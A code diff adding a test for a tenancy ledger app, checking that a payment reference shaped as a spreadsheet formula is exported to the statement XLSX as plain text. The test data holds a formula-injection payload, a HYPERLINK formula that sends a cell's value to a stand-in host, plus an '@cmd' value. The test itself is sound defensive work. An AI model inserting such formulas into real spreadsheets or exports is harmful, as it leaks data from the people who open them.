@@ -122,6 +122,26 @@ def test_the_exports_are_a_pdf_and_a_spreadsheet(setup, operator):
     assert any(row[6] == 250 for row in values if len(row) > 6)
 
 
+def test_a_payment_reference_that_looks_like_a_formula_is_text_in_the_statement_xlsx(setup, operator):
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    payload = '=HYPERLINK("http://example.invalid/?d="&A1,"Apri")'
+    ledger.payment_record(
+        actor=operator, tenancy=setup["tenancy"], amount="5", value_date=JAN, reference=payload, description="@cmd"
+    )
+
+    xlsx = client_for(operator).get(reverse("tenancies:statement-xlsx", args=[setup["tenancy"].pk]))
+
+    sheet = load_workbook(BytesIO(xlsx.content)).active
+    (row,) = [row for row in sheet.iter_rows() if row[3].value == payload]
+    assert (row[3].data_type, row[3].quotePrefix) == ("s", True)
+    assert (row[2].value, row[2].data_type, row[2].quotePrefix) == ("@cmd", "s", True)
+    assert (row[5].value, row[5].data_type) == (5, "n")
+    assert not any(cell.data_type == "f" for line in sheet.iter_rows() for cell in line)
+
+
 @pytest.mark.parametrize("amount", ["0", "-10"])
 def test_a_payment_of_zero_or_less_is_refused_on_the_page(setup, operator, amount):
     before = LedgerEntry.objects.count()
